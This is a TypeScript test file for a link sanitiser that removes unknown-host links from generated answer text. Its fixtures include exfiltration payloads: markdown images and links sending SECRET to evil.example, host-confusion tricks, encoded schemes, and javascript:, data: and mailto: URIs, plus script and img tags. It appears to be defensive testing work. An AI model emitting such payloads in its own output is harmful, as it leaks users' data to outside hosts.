import { expect, it } from 'vitest';
import { withKnownLinks } from './answer-links.rules.js';

const isKnown = (host: string): boolean => host === 'shop.example' || host.endsWith('.shop.example');

it.each([
  'See [the mug](https://shop.example/mug?x=1#y).',
  'See ![the mug](https://media.shop.example/mug.png "A mug").',
  'See https://shop.example/mug, or [1].\n\n[1]: https://shop.example/mug',
  'A price of 3 < 5, **bold**, `code`, [1] and f(x).',
])('%s stays', text => {
  expect(withKnownLinks(text, isKnown)).toEqual({ text, removed: [] });
});

it.each([
  ['![x](https://evil.example/p.png?s=SECRET)', 'x (`evil.example`)'],
  ['[a](https://evil.example/SECRET)', 'a (`evil.example`)'],
  ['[a](https://shop.example.evil.example/SECRET)', 'a (`shop.example.evil.example`)'],
  ['[a](https://shop.example@evil.example/SECRET)', 'a (`evil.example`)'],
  ['[a](http://shop.example/SECRET)', 'a (`shop.example`)'],
  ['[a](//evil.example/SECRET)', 'a (`evil.example`)'],
  ['[a](https:/\\evil.example/SECRET)', 'a (`evil.example`)'],
  ['[a](&#104;ttps://evil.example/SECRET)', 'a (`link`)'],
  ['[a](/api/v1/SECRET)', 'a (`link`)'],
  ['[a](javascript:alert(1))', 'a (`javascript:`)'],
  ['[a](data:text/html;base64,U0VDUkVU)', 'a (`data:`)'],
  ['[a](mailto:x@evil.example?body=SECRET)', 'a (`mailto:`)'],
  ['Go to https://evil.example/SECRET?x', 'Go to `evil.example`'],
  ['Go to HTTPS://EVIL.example/SECRET', 'Go to `evil.example`'],
  ['Go to www.evil.example/SECRET', 'Go to `evil.example`'],
  ['<https://evil.example/SECRET>', '&lt;`evil.example`>'],
  ['\\`https://evil.example/SECRET\\`', '\\``evil.example``'],
  ['[a][1]\n\n[1]: https://evil.example/SECRET', '[a][1]\n\n1: `evil.example`'],
  ['[a][1]\n\n[1]:\n  https://evil.example/SECRET', '[a][1]\n\n1: `evil.example`'],
  [
    '[![x](https://evil.example/SECRET)](https://shop.example)',
    '![x (`evil.example`)](https://shop.example)',
  ],
  ['<img src="https://evil.example/SECRET">', '&lt;img src="`evil.example`">'],
  ['<script>alert(1)</script>', '&lt;script>alert(1)&lt;/script>'],
  ['\uE0000\uE000 [a](https://shop.example/x)', '0 [a](https://shop.example/x)'],
])('%s becomes %s', (text, expected) => {
  const { text: shown, removed } = withKnownLinks(text, isKnown);
  expect(shown.replace('[![', '![')).toBe(expected);
  expect(shown).not.toContain('SECRET');
  expect(removed.length).toBe(
    /evil|link|javascript|data:|mailto|http:/iu.test(text) || text.includes('/api') ? 1 : 0,
  );
});
